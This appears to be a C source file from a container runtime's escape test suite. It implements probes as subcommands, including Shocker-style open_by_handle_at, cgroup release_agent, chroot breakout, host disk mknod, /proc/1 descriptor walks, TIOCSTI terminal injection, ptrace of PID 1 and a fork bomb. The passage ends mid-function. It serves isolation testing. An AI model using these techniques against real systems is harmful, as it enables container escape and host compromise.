/**
 * @file attack.c
 * @brief The attacker: a static program the escape battery (tests/escapes/escapes.c) runs
 *        inside a container, one attack per subcommand.
 *
 * Each subcommand tries one way out of the container, or one way of harming the host from
 * inside, the way an attacker with root in the container would. It prints one line and
 * exits:
 *
 *  - 0  REFUSED: the attack failed, the line says what stopped it ("mknod: EPERM");
 *  - 1  SUCCEEDED: the line says what it achieved ("read the host's /tmp/.../marker
 *       through /proc/1/fd/5");
 *  - 77 not applicable: the kernel lacks the feature (the line says which);
 *  - 2  misuse, or the attack itself broke.
 *
 * Some attacks can only be judged from the host (a signal that reached a host process, a
 * file left in the host's /run, bytes pushed into the caller's terminal): those say what
 * they did inside, and the test decides from outside. `forge-error` exits 3 after a forged
 * write, so the host can tell a forged report from the command's own status.
 *
 * Nothing here changes the host when the attack succeeds: devices are opened and read,
 * never written; /proc/sys and /proc/sysrq-trigger are opened for writing, never written;
 * the host files it reads are the test's scratch files.
 *
 * Static, so that it runs in any root filesystem (the busybox image, a runc bundle).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef AF_VSOCK
#define AF_VSOCK 40
#endif

enum {
	REFUSED = 0,
	SUCCEEDED = 1,
	MISUSE = 2,
	NOT_APPLICABLE = 77
};

/** Print the verdict line and return @p code. */
__attribute__((format(printf, 2, 3))) static int
say(int code, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	putchar('\n');
	fflush(stdout);
	return code;
}

static const char *
ename(int e)
{
	const char *n = strerrorname_np(e);

	return n ? n : "unknown error";
}

/* ---- host files through directory descriptors ------------------------------------------ */

/**
 * From the directory @p dirfd, or the path @p base ("/proc/self/fd/N/"), climb with ".."
 * far enough to pass any mount's top (".." stops only at the process's root, which a
 * directory outside it is not under), then descend to @p marker, an absolute path on the
 * host. True when @p token is read there.
 */
static bool
walk_out(int dirfd, const char *base, const char *marker, const char *token)
{
	char path[4096], buf[256];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "%s", base);
	for (int i = 0; i < 40; i++)
		strcat(path, "../");
	strncat(path, marker + 1, sizeof(path) - strlen(path) - 1);
	fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return strstr(buf, token) != NULL;
}

/**
 * Every descriptor in @p fddir ("/proc/1/fd", "/proc/self/fd") numbered above @p above
 * that opens as a directory: can we walk out of it to the host's @p marker?
 */
static int
walk_fds(const char *fddir, int above, const char *marker, const char *token)
{
	char path[512], link[512];
	struct dirent *d;
	DIR *dir = opendir(fddir);
	int ndirs = 0, nfds = 0, own = -1;

	if (dir && strcmp(fddir, "/proc/self/fd") == 0)
		own = dirfd(dir); /* the listing's own descriptor */
	if (!dir)
		return say(REFUSED, "opendir(\"%s\"): %s", fddir, ename(errno));
	while ((d = readdir(dir))) {
		int n = atoi(d->d_name), fd;
		ssize_t len;

		if (d->d_name[0] == '.' || n <= above || n == own)
			continue;
		nfds++;
		snprintf(path, sizeof(path), "%s/%d", fddir, n);
		fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		if (fd < 0)
			continue;
		ndirs++;
		len = readlink(path, link, sizeof(link) - 1);
		link[len > 0 ? len : 0] = '\0';
		strcat(path, "/"); /* and the path itself: /proc/1/fd/N/../../... */
		if (walk_out(fd, "", marker, token) || walk_out(AT_FDCWD, path, marker, token)) {
			path[strlen(path) - 1] = '\0';
			close(fd);
			closedir(dir);
			return say(SUCCEEDED, "read the host's %s by walking .. out of %s (%s)",
				   marker, path, link);
		}
		close(fd);
	}
	closedir(dir);
	return say(REFUSED,
		   "%d descriptors above %d in %s, %d of them directories, none leads "
		   "to the host",
		   nfds, above, fddir, ndirs);
}

/* ---- devices ---------------------------------------------------------------------------- */

/**
 * Where a node might be made: the writable places of a container, and last /vol, where the
 * battery binds a host directory (--volume): a bind keeps its host mount's flags, so there
 * nodev does not help and only the device cgroup stands (EPERM rather than nodev's EACCES).
 */
static const char *const node_dirs[] = {"/dev", "/tmp", "/", "/dev/shm", "/root", "/vol"};

/**
 * Make a node for device @p dev of @p type (S_IFBLK, S_IFCHR) in each writable place and
 * open it with @p flags. Returns the open descriptor, its path in @p made; or -1 with the
 * first refusal described in @p why.
 */
static int
node_open(mode_t type, dev_t dev, int flags, char *made, size_t size, char *why, size_t wsize)
{
	why[0] = '\0';
	for (size_t i = 0; i < sizeof(node_dirs) / sizeof(node_dirs[0]); i++) {
		int fd;

		snprintf(made, size, "%s/nook-attack-node",
			 strcmp(node_dirs[i], "/") ? node_dirs[i] : "");
		unlink(made);
		if (mknod(made, type | 0600, dev) < 0) {
			if (!why[0])
				snprintf(why, wsize, "mknod(\"%s\"): %s", made, ename(errno));
			continue;
		}
		fd = open(made, flags | O_CLOEXEC);
		if (fd >= 0) {
			unlink(made);
			return fd;
		}
		snprintf(why, wsize, "mknod worked, open(\"%s\"): %s", made, ename(errno));
		unlink(made);
	}
	return -1;
}

/** A node for the host's block device MAJ:MIN (the test's loop device): read its data. */
static int
mknod_disk(const char *majmin, const char *token)
{
	unsigned maj, min;
	char made[64], why[160], buf[4096];
	ssize_t n;
	int fd;

	if (sscanf(majmin, "%u:%u", &maj, &min) != 2)
		return say(MISUSE, "mknod-disk: bad MAJ:MIN '%s'", majmin);
	fd = node_open(S_IFBLK, makedev(maj, min), O_RDWR, made, sizeof(made), why, sizeof(why));
	if (fd < 0)
		fd = node_open(S_IFBLK, makedev(maj, min), O_RDONLY, made, sizeof(made), why,
			       sizeof(why));
	if (fd < 0)
		return say(REFUSED, "%s", why);
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	buf[n > 0 ? n : 0] = '\0';
	if (n > 0 && memmem(buf, (size_t)n, token, strlen(token)))
		return say(SUCCEEDED, "made %s (b %s) and read the host's disk through it", made,
			   majmin);
	return say(SUCCEEDED, "made %s (b %s) and opened the host's disk (read: %s)", made, majmin,
		   n < 0 ? ename(errno) : "no token");
}

/** A node for /dev/kmsg (c 1:11): read the host's kernel log, or open it to write to it. */
static int
mknod_kmsg(void)
{
	char made[64], why[160], buf[1024];
	ssize_t n;
	int fd;

	fd = node_open(S_IFCHR, makedev(1, 11), O_WRONLY, made, sizeof(made), why, sizeof(why));
	if (fd >= 0) {
		close(fd);
		return say(SUCCEEDED,
			   "made %s (c 1:11) and opened the host's kernel log for "
			   "writing",
			   made);
	}
	fd = node_open(S_IFCHR, makedev(1, 11), O_RDONLY | O_NONBLOCK, made, sizeof(made), why,
		       sizeof(why));
	if (fd < 0)
		return say(REFUSED, "%s", why);
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return say(SUCCEEDED, "made %s (c 1:11) and read the host's kernel log (%zd bytes)", made,
		   n);
}

/* ---- the caller's session, terminal, process group ------------------------------------- */

/** Push @p text into the input queue of the terminal on fd 0, as if typed there. */
static int
tiocsti(const char *text)
{
	size_t i;

	if (!isatty(0))
		return say(REFUSED, "fd 0 is not a terminal (%s)", ename(errno));
	for (i = 0; text[i]; i++)
		if (ioctl(0, TIOCSTI, &text[i]) < 0)
			return say(REFUSED, "ioctl(0, TIOCSTI): %s", ename(errno));
	return say(SUCCEEDED, "pushed %zu bytes into the input of the terminal on fd 0", i);
}

/** kill(0, SIGKILL): every process of our process group, the caller's if it is shared. */
static int
kill_group(void)
{
	say(SUCCEEDED, "kill(0, SIGKILL) in process group %d, session %d", (int)getpgrp(),
	    (int)getsid(0));
	if (kill(0, SIGKILL) < 0)
		return say(REFUSED, "kill(0, SIGKILL): %s", ename(errno));
	return say(REFUSED, "kill(0, SIGKILL) returned; still alive");
}

/** Is @p token in the environment block @p path (/proc/N/environ)? */
static bool
environ_has(const char *path, const char *token)
{
	char buf[65536];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return false;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n > 0 && memmem(buf, (size_t)n, token, strlen(token)) != NULL;
}

/** The host's environment: @p name in ours, or @p token in any visible process's. */
static int
env_leak(const char *name, const char *token)
{
	char path[64];
	struct dirent *d;
	DIR *proc;

	if (getenv(name))
		return say(SUCCEEDED, "%s is in the command's environment", name);
	proc = opendir("/proc");
	while (proc && (d = readdir(proc))) {
		if (atoi(d->d_name) <= 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/environ", atoi(d->d_name));
		if (environ_has(path, token)) {
			closedir(proc);
			return say(SUCCEEDED, "the host's %s is readable in %s", name, path);
		}
	}
	if (proc)
		closedir(proc);
	return say(REFUSED, "%s is in no environment the container can read", name);
}

/* ---- the state directory ---------------------------------------------------------------- */

/** A nest of directories @p bytes deep in the writable layer, under /NAME. */
static int
deep_nest(const char *name, long bytes)
{
	static const char level[] = "nook-attack-nest-level-directory";
	long depth = 0;

	if (mkdir(name, 0755) < 0 || chdir(name) < 0)
		return say(REFUSED, "mkdir(\"%s\"): %s", name, ename(errno));
	while (depth < bytes) {
		if (mkdir(level, 0755) < 0 || chdir(level) < 0)
			return say(REFUSED, "nest stopped at %ld bytes: %s", depth, ename(errno));
		depth += (long)sizeof(level);
	}
	return say(SUCCEEDED, "made a nest of directories %ld bytes deep in /%s", depth, name);
}

/* ---- nook-init, PID 1 ------------------------------------------------------------------- */

/** Is PID 1 running a program of the container's own files (not one of the host's)? */
static bool
init_is_ours(char *link, size_t size)
{
	struct stat exe, here;
	ssize_t n = readlink("/proc/1/exe", link, size - 1);

	link[n > 0 ? n : 0] = '\0';
	if (stat("/proc/1/exe", &exe) < 0)
		return true; /* we cannot even look at it */
	return stat(link, &here) == 0 && here.st_dev == exe.st_dev && here.st_ino == exe.st_ino;
}

static int
init_mem(void)
{
	char link[512];
	int fd;

	fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
	if (fd < 0)
		return say(REFUSED, "open(\"/proc/1/mem\", O_RDWR): %s", ename(errno));
	close(fd);
	if (init_is_ours(link, sizeof(link)))
		return say(REFUSED, "/proc/1/mem opens, but PID 1 runs the container's own %s",
			   link);
	return say(SUCCEEDED, "opened the memory of PID 1 (%s, a host program) read-write", link);
}

static int
init_exe(void)
{
	char link[512], elf[4];
	int fd;

	fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return say(REFUSED, "open(\"/proc/1/exe\"): %s", ename(errno));
	if (read(fd, elf, 4) != 4 || memcmp(elf, "\177ELF", 4) != 0) {
		close(fd);
		return say(REFUSED, "/proc/1/exe opens but does not read as a program");
	}
	close(fd);
	if (init_is_ours(link, sizeof(link)))
		return say(REFUSED, "PID 1 runs the container's own %s", link);
	fd = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
	if (fd >= 0) {
		close(fd);
		return say(SUCCEEDED, "opened the host's program %s for writing via /proc/1/exe",
			   link);
	}
	return say(SUCCEEDED, "read the host's program %s via /proc/1/exe", link);
}

/** nook's error report, as launch.c sends it: a code, then one line. */
struct forged {
	int code;
	char msg[256];
};

/** Is descriptor @p n of PID 1 a pipe it writes to? */
static bool
init_write_pipe(int n)
{
	char path[64], link[64], line[128];
	unsigned flags = 0;
	ssize_t len;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/1/fd/%d", n);
	len = readlink(path, link, sizeof(link) - 1);
	if (len <= 0 || strncmp(link, "pipe:", 5) != 0)
		return false;
	snprintf(path, sizeof(path), "/proc/1/fdinfo/%d", n);
	f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f))
		sscanf(line, "flags: %o", &flags);
	if (f)
		fclose(f);
	return (flags & O_ACCMODE) == O_WRONLY;
}

/**
 * Write a forged error report (code 0, @p text) into every pipe above 2 that PID 1 writes
 * to — nook's error pipe among them. Exits 3 after a write, so that the host can tell.
 */
static int
forge_error(const char *text)
{
	struct forged f = {0, ""};
	char path[64];
	struct dirent *d;
	DIR *dir = opendir("/proc/1/fd");
	int wrote = -1, first_errno = 0;

	snprintf(f.msg, sizeof(f.msg), "%s", text);
	if (!dir)
		return say(REFUSED, "opendir(\"/proc/1/fd\"): %s", ename(errno));
	while ((d = readdir(dir))) {
		int n = atoi(d->d_name), fd;

		if (d->d_name[0] == '.' || n <= 2 || !init_write_pipe(n))
			continue;
		snprintf(path, sizeof(path), "/proc/1/fd/%d", n);
		fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
		if (fd < 0) {
			first_errno = first_errno ? first_errno : errno;
			continue;
		}
		if (write(fd, &f, sizeof(f)) == (ssize_t)sizeof(f))
			wrote = n;
		close(fd);
	}
	closedir(dir);
	if (wrote >= 0) {
		say(SUCCEEDED, "wrote a forged error report into /proc/1/fd/%d", wrote);
		return 3;
	}
	if (first_errno)
		return say(REFUSED, "PID 1's pipes do not open: %s", ename(first_errno));
	return say(REFUSED, "PID 1 writes to no pipe above 2");
}

/* ---- cgroups, /dev/shm, sockets, stdout ------------------------------------------------ */

/**
 * Inside: a mounted v1 hierarchy whose top shows release_agent is the host's root cgroup.
 * Then wait, so that the test can look at our cgroups from outside.
 */
static int
cgroups(void)
{
	char line[1024], mnt[512], fs[64], path[600];
	FILE *f = fopen("/proc/self/mountinfo", "re");
	int code = REFUSED;

	while (f && fgets(line, sizeof(line), f)) {
		char *sep = strstr(line, " - ");

		if (!sep || sscanf(line, "%*s %*s %*s %*s %511s", mnt) != 1 ||
		    sscanf(sep, " - %63s", fs) != 1 || strcmp(fs, "cgroup") != 0)
			continue;
		snprintf(path, sizeof(path), "%s/release_agent", mnt);
		if (access(path, F_OK) == 0) {
			say(SUCCEEDED, "%s: the host's root cgroup is mounted inside", path);
			code = SUCCEEDED;
			break;
		}
	}
	if (f)
		fclose(f);
	if (code == REFUSED)
		say(REFUSED, "no host root cgroup mounted inside; ready");
	pause(); /* the test looks from outside, then ends us */
	return code;
}

static int
shm_size(void)
{
	struct statfs fs;
	unsigned long long mib;

	if (statfs("/dev/shm", &fs) < 0)
		return say(REFUSED, "statfs(\"/dev/shm\"): %s", ename(errno));
	mib = (unsigned long long)fs.f_blocks * (unsigned long long)fs.f_bsize >> 20;
	if (mib > 64)
		return say(SUCCEEDED, "/dev/shm holds %llu MiB of the host's memory (Docker: 64)",
			   mib);
	return say(REFUSED, "/dev/shm holds %llu MiB", mib);
}

static int
vsock(void)
{
	int fd = socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd >= 0) {
		close(fd);
		return say(SUCCEEDED, "socket(AF_VSOCK) works: the hypervisor's sockets are in "
				      "reach");
	}
	if (errno == EAFNOSUPPORT)
		return say(NOT_APPLICABLE, "this kernel has no AF_VSOCK (EAFNOSUPPORT)");
	return say(REFUSED, "socket(AF_VSOCK): %s", ename(errno));
}

/** Read @p path (a reopened stdout) and look for @p token. */
static bool
reads_token(const char *path, const char *token)
{
	char buf[4096];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC); /* a pipe must not block us */

	if (fd < 0)
		return false;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n > 0 && memmem(buf, (size_t)n, token, strlen(token)) != NULL;
}

/** Our stdout is a host file holding @p token: read it back, or truncate it. */
static int
stdout_file(const char *token)
{
	static const char *const paths[] = {"/proc/self/fd/1", "/proc/1/fd/1"};
	struct stat st;

	for (size_t i = 0; i < 2; i++)
		if (reads_token(paths[i], token))
			return say(SUCCEEDED, "read the host's file back through %s", paths[i]);
	/* truncating to its own size changes nothing, and says whether we could truncate */
	if (fstat(1, &st) == 0 && S_ISREG(st.st_mode) && ftruncate(1, st.st_size) == 0)
		return say(SUCCEEDED, "stdout is the host's file itself: ftruncate(1) works");
	return say(REFUSED, "the host's file cannot be read back or truncated");
}

/* ---- system calls the filter and the capabilities refuse -------------------------------- */

static int
mount_attack(void)
{
	if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0) {
		umount("/tmp");
		return say(SUCCEEDED, "mounted a tmpfs on /tmp");
	}
	return say(REFUSED, "mount: %s", ename(errno));
}

/**
 * Shocker: open a file of the host's filesystem by its handle, whatever the mount shows.
 * The handle is that of @p dir (a host directory bind-mounted in); with it the call would
 * open any inode of that filesystem, its root included.
 */
static int
shocker(const char *dir)
{
	union {
		struct file_handle fh;
		unsigned char room[sizeof(struct file_handle) + 128];
	} h = {.fh.handle_bytes = 128};
	unsigned char *bytes = h.room + sizeof(struct file_handle);
	int mount_id, mfd, fd;

	mfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (mfd < 0)
		return say(MISUSE, "open(\"%s\"): %s", dir, ename(errno));
	if (name_to_handle_at(mfd, "", &h.fh, &mount_id, AT_EMPTY_PATH) < 0) {
		/* ext4's root directory: inode 2, generation 0 (FILEID_INO32_GEN) */
		h.fh.handle_type = 1;
		h.fh.handle_bytes = 8;
		memset(bytes, 0, 8);
		bytes[0] = 2;
	}
	fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_CLOEXEC);
	close(mfd);
	if (fd >= 0) {
		close(fd);
		return say(SUCCEEDED, "open_by_handle_at opened a host inode by its handle");
	}
	if (errno == EPERM || errno == ENOSYS)
		return say(REFUSED, "open_by_handle_at: %s", ename(errno));
	return say(SUCCEEDED, "open_by_handle_at reached the filesystem (%s)", ename(errno));
}

static int
ptrace_init(void)
{
	if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0) {
		ptrace(PTRACE_DETACH, 1, NULL, NULL);
		return say(SUCCEEDED, "PTRACE_SEIZE of PID 1 worked: its memory and "
				      "descriptors are ours");
	}
	return say(REFUSED, "ptrace(PTRACE_SEIZE, 1): %s", ename(errno));
}

static int
keyctl_attack(void)
{
	long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0L);

	if (id >= 0)
		return say(SUCCEEDED, "keyctl: the user keyring %ld is in reach", id);
	return say(REFUSED, "keyctl: %s", ename(errno));
}

static int
bpf_attack(void)
{
	union bpf_attr a = {
		.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
	long fd = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof(a));

	if (fd >= 0) {
		close((int)fd);
		return say(SUCCEEDED, "bpf(BPF_MAP_CREATE) worked");
	}
	return say(REFUSED, "bpf: %s", ename(errno));
}

static int
perf_attack(void)
{
	struct perf_event_attr a = {.type = PERF_TYPE_SOFTWARE,
				    .size = sizeof(a),
				    .config = PERF_COUNT_SW_CPU_CLOCK,
				    .disabled = 1};
	long fd = syscall(SYS_perf_event_open, &a, 0, -1, -1, 0L);

	if (fd >= 0) {
		close((int)fd);
		return say(SUCCEEDED, "perf_event_open worked");
	}
	return say(REFUSED, "perf_event_open: %s", ename(errno));
}

static int
userfaultfd_attack(void)
{
	long fd = syscall(SYS_userfaultfd, O_CLOEXEC);

	if (fd >= 0) {
		close((int)fd);
		return say(SUCCEEDED, "userfaultfd worked");
	}
	return say(REFUSED, "userfaultfd: %s", ename(errno));
}

/** A call that reached the kernel past its capability check: anything but EPERM/ENOSYS. */
static int
privileged_call(const char *name, long rc)
{
	if (rc < 0 && (errno == EPERM || errno == ENOSYS))
		return say(REFUSED, "%s: %s", name, ename(errno));
	return say(SUCCEEDED, "%s got past its capability check (%s)", name,
		   rc < 0 ? ename(errno) : "ok");
}

static int
kexec_attack(void)
{
	/* flags that do not exist: EINVAL once the capability check has passed */
	return privileged_call("kexec_load", syscall(SYS_kexec_load, 0L, 0L, NULL, 0xffff0000L));
}

static int
modules_attack(void)
{
	long rc = syscall(SYS_init_module, NULL, 0L, ""); /* an empty module: not loaded */

	if (!(rc < 0 && (errno == EPERM || errno == ENOSYS)))
		return privileged_call("init_module", rc);
	return privileged_call("finit_module", syscall(SYS_finit_module, -1L, "", 0L));
}

static int
unshare_attack(void)
{
	int fd;

	if (unshare(CLONE_NEWUSER) == 0)
		return say(SUCCEEDED, "unshare(CLONE_NEWUSER) worked");
	if (unshare(CLONE_NEWNS) == 0)
		return say(SUCCEEDED, "unshare(CLONE_NEWNS) worked");
	fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && setns(fd, CLONE_NEWNS) == 0)
		return say(SUCCEEDED, "setns worked");
	return say(REFUSED, "unshare and setns: %s", ename(errno));
}

static int
io_uring_attack(void)
{
	struct io_uring_params p = {0};
	long fd = syscall(SYS_io_uring_setup, 1L, &p);

	if (fd >= 0) {
		close((int)fd);
		return say(SUCCEEDED, "io_uring_setup worked");
	}
	return say(REFUSED, "io_uring_setup: %s", ename(errno));
}

/** personality(ADDR_NO_RANDOMIZE): switch off address randomisation for what we exec. */
static int
personality_attack(void)
{
	int rc = personality(ADDR_NO_RANDOMIZE);

	if (rc < 0)
		return say(REFUSED, "personality(ADDR_NO_RANDOMIZE): %s", ename(errno));
	if (personality(0xffffffff) & ADDR_NO_RANDOMIZE)
		return say(SUCCEEDED, "personality(ADDR_NO_RANDOMIZE) worked");
	return say(REFUSED, "personality(ADDR_NO_RANDOMIZE) returned but changed nothing");
}

/** getpid in another ABI, in a child (a filter may kill it): "worked", or what stopped it. */
static const char *
other_abi(const char *abi)
{
	int wstatus;
	pid_t pid = fork();

	if (pid == 0) {
		long rc;

		if (strcmp(abi, "x32") == 0) {
			rc = syscall(0x40000000L | SYS_getpid);
		} else {
			__asm__ volatile("int $0x80" : "=a"(rc) : "a"(20L) : "memory");
			if (rc < 0 && rc > -4096)
				errno = (int)-rc, rc = -1;
		}
		_exit(rc > 0 ? 0 : errno == ENOSYS ? 3 : 4);
	}
	if (pid < 0 || waitpid(pid, &wstatus, 0) < 0)
		return "fork failed";
	if (WIFSIGNALED(wstatus))
		return WTERMSIG(wstatus) == SIGSYS ? "killed by SIGSYS" : "killed by a signal";
	if (WEXITSTATUS(wstatus) == 0)
		return "worked";
	return WEXITSTATUS(wstatus) == 3 ? "ENOSYS" : "failed";
}

/** getpid through the x32 and the i386 system call tables. */
static int
other_abis(void)
{
	const char *x32 = other_abi("x32"), *i386 = other_abi("i386");
	bool worked = strcmp(x32, "worked") == 0 || strcmp(i386, "worked") == 0;

	return say(worked ? SUCCEEDED : REFUSED, "x32 getpid: %s; i386 getpid: %s", x32, i386);
}

/** Open @p path for writing, no write: is it the real kernel file, not a mask? */
static int
open_for_writing(const char *path)
{
	struct stat st;
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return say(REFUSED, "open(\"%s\", O_WRONLY): %s", path, ename(errno));
	fstat(fd, &st);
	close(fd);
	if (S_ISCHR(st.st_mode))
		return say(REFUSED, "%s is masked (a character device: /dev/null)", path);
	return say(SUCCEEDED, "opened %s for writing", path);
}

/** The classic release_agent escape: a v1 hierarchy we can mount, or one mounted, to write. */
static int
release_agent(void)
{
	static const char *const controllers[] = {"rdma", "memory", "pids", "none,name=nook"};
	char line[1024], mnt[512], fs[64], path[600];
	FILE *f;

	int mount_errno = 0;

	mkdir("/tmp/nook-attack-cgroup", 0755);
	for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); i++) {
		if (mount("cgroup", "/tmp/nook-attack-cgroup", "cgroup", 0, controllers[i]) < 0) {
			mount_errno = mount_errno ? mount_errno : errno;
			continue;
		}
		int rc = open_for_writing("/tmp/nook-attack-cgroup/release_agent");

		umount("/tmp/nook-attack-cgroup");
		return rc == REFUSED ? say(SUCCEEDED, "mounted cgroup v1 (%s)", controllers[i])
				     : SUCCEEDED;
	}
	f = fopen("/proc/self/mountinfo", "re");
	while (f && fgets(line, sizeof(line), f)) {
		char *sep = strstr(line, " - ");

		if (!sep || sscanf(line, "%*s %*s %*s %*s %511s", mnt) != 1 ||
		    sscanf(sep, " - %63s", fs) != 1 || strcmp(fs, "cgroup") != 0)
			continue;
		snprintf(path, sizeof(path), "%s/release_agent", mnt);
		int fd = open(path, O_WRONLY | O_CLOEXEC);

		if (fd >= 0) {
			close(fd);
			fclose(f);
			return say(SUCCEEDED, "opened %s for writing", path);
		}
	}
	if (f)
		fclose(f);
	return say(REFUSED, "mount(cgroup): %s; no release_agent to write", ename(mount_errno));
}

/** The chroot escape: chroot into a subdirectory, climb out with "..", look for @p marker. */
static int
chroot_escape(const char *marker)
{
	static const char *const places[] = {"/tmp", "/", "/root", "/dev/shm"};
	int made = -1;

	for (size_t i = 0; i < sizeof(places) / sizeof(places[0]) && made < 0; i++)
		if (chdir(places[i]) == 0 &&
		    (mkdir("nook-attack-jail", 0755) == 0 || errno == EEXIST))
			made = (int)i;
	if (made < 0)
		return say(MISUSE, "chroot: no directory to make the jail in: %s", ename(errno));
	if (chroot("nook-attack-jail") < 0)
		return say(REFUSED, "chroot: %s", ename(errno));
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		return say(REFUSED, "chroot(\".\"): %s", ename(errno));
	if (access(marker, F_OK) == 0)
		return say(SUCCEEDED, "climbed out of the chroot to the host's %s", marker);
	return say(REFUSED, "climbed out of the chroot, to the container's own root");
}

static int
setuid_root(void)
{
	if (getuid() == 0)
		return say(MISUSE, "setuid: already root; run with --user");
	if (setresuid(0, 0, 0) == 0 || setuid(0) == 0 || seteuid(0) == 0)
		return say(SUCCEEDED, "became uid 0 again");
	return say(REFUSED, "setuid(0) as uid %u: %s", (unsigned)getuid(), ename(errno));
}

/** Fork until fork fails or @p max children wait; refused when fork failed first. */
static int
fork_bomb(long max)
{
	pid_t *kids = calloc((size_t)max, sizeof(pid_t));
	long n = 0;
	int error = 0;

	if (!kids)
		return say(MISUSE, "calloc: %s", ename(errno));
	while (n < max) {
		pid_t pid = fork();

		if (pid == 0) {
			pause();
			_exit(0);
		}
		if (pid < 0) {
			error = errno;
			break;
		}
		kids[n++] = pid;
	}
	for (long i = 0; i < n; i++)
		kill(kids[i], SIGKILL);
	while (wait(NULL) > 0)
		;
	free(kids);
	if (error)
		return say(REFUSED, "fork failed after %ld processes: %s", n, ename(error));
	return say(SUCCEEDED, "forked %ld processes, no limit in sight", n);
}

/** Allocate @p mib MiB and touch every page. */
static int
hog(long mib)
{
	size_t bytes = (size_t)mib << 20, page = (size_t)sysconf(_SC_PAGESIZE);
	char *mem = mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (mem == MAP_FAILED)
		return say(REFUSED, "mmap %ld MiB: %s", mib, ename(errno));
	for (size_t i = 0; i < bytes; i += page)
		mem[i] = 1;
	return say(SUCCEEDED, "used %ld MiB", mib);
}

/**
 * Finding 11: a process left behind in the background keeps writing to the container's
 * stdout, a little at a time, for @p seconds; the command itself exits at once. Where the
 * container has no PID namespace of its own (step 01) the writer outlives the command, and
 * nook drains the stream "until DRAIN_WAIT_MS of silence" that never comes.
 */
static int
hold_stdout(long seconds)
{
	pid_t pid = fork();

	if (pid < 0)
		return say(MISUSE, "fork: %s", ename(errno));
	if (pid == 0) {
		setsid(); /* out of the way of whatever signals the group */
		for (long i = 0; i < seconds * 10; i++) {
			if (write(1, ".", 1) < 0)
				_exit(0);
			usleep(100000);
		}
		_exit(0);
	}
	return say(REFUSED, "left a writer behind (PID %d) for %ld s", (int)pid, seconds);
}

/**
 * ioctl(TIOCCONS) on our terminal: the kernel's console output redirected to it. Only
 * with CAP_SYS_ADMIN, and undone only through /dev/console: with the capability the call
 * is not made (it would change the host), the capability is the verdict.
 */
static int
tioccons(void)
{
	struct __user_cap_header_struct h = {_LINUX_CAPABILITY_VERSION_3, 0};
	struct __user_cap_data_struct d[2] = {{0}};
	int fd = isatty(0) ? 0 : open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);

	if (fd < 0)
		return say(NOT_APPLICABLE, "no terminal: %s", ename(errno));
	if (syscall(SYS_capget, &h, d) == 0 && (d[0].effective & (1U << CAP_SYS_ADMIN)))
		return say(SUCCEEDED, "CAP_SYS_ADMIN: TIOCCONS would redirect the console here");
	if (ioctl(fd, TIOCCONS) < 0)
		return say(REFUSED, "ioctl(TIOCCONS): %s", ename(errno));
	return say(SUCCEEDED, "redirected the console to our terminal with TIOCCONS");
}

/**
 * Finding 13: how much the container can write at @p path — the root's writable layer
 * (upper/ in the host's /run/nook: the host's /run, or its root filesystem) or a --tmpfs
 * (half the host's memory by default) — against @p limit MiB. Nothing is written.
 */
static int
fs_room(const char *path, long limit)
{
	struct statfs fs;
	unsigned long long mib;

	if (statfs(path, &fs) < 0)
		return say(REFUSED, "statfs(\"%s\"): %s", path, ename(errno));
	mib = (unsigned long long)fs.f_bavail * (unsigned long long)fs.f_bsize >> 20;
	if (mib > (unsigned long long)limit)
		return say(SUCCEEDED, "%s can take %llu MiB more of the host's (limit %ld)", path,
			   mib, limit);
	return say(REFUSED, "%s can take %llu MiB", path, mib);
}

/**
 * Finding 14: the container's devpts has no max=: its ptys count against kernel.pty.max
 * with everyone else's but the host's reserve (4096 - 1024), so one container can take
 * them all and no other container gets a terminal. Judged from the mount's options (a
 * devpts shows max= when it has one) after opening a few: the host's ptys are not taken.
 */
static int
pty_limit(void)
{
